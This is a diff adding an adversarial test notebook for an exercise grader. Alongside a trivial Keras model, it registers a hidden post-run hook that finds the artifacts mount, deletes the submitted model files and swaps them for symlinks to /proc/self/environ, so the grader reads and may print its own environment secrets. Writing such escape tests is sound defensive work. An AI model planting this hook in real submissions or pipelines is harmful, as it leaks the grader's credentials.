@@ -1,0 +1,42 @@
+# grader: exercise=conv-dims
+# old (ca38eb9): the grader opened /proc/self/environ (its own) as the model: "could not be loaded", no refusal
+"""Adversarial (escape): the model file, a symbolic link to /proc/self/environ.
+
+/proc/self is whoever opens it: a grader that follows the link reads its own environment (its
+secrets) as the student's model, and the loader's error message may quote it.
+"""
+
+# %%
+import json
+import os
+
+from keras.layers import Conv2D
+from keras.models import Sequential
+
+model = Sequential([Conv2D(16, 2, strides=2, padding="valid", activation="relu", input_shape=(200, 200, 1))])
+conv_params = 80
+conv_height = 100
+
+
+# %%
+def _facts_files():
+    """Every facts.json under the writable bind mount named `artifacts` (see /proc/self/mountinfo)."""
+    with open("/proc/self/mountinfo") as mounts:
+        tops = [line.split()[4] for line in mounts if line.split()[4].endswith("/artifacts")]
+    return [os.path.join(folder, "facts.json") for top in tops for folder, _, files in os.walk(top) if "facts.json" in files]
+
+
+
+def _after_probe(result):
+    for path in _facts_files():
+        folder = os.path.dirname(path)
+        with open(path) as handle:
+            facts = json.load(handle)
+        for entry in facts["models"]:
+            if entry.get("file"):
+                target = os.path.join(folder, entry["file"])
+                os.remove(target)
+                os.symlink("/proc/self/environ", target)
+
+
+get_ipython().events.register("post_run_cell", _after_probe)
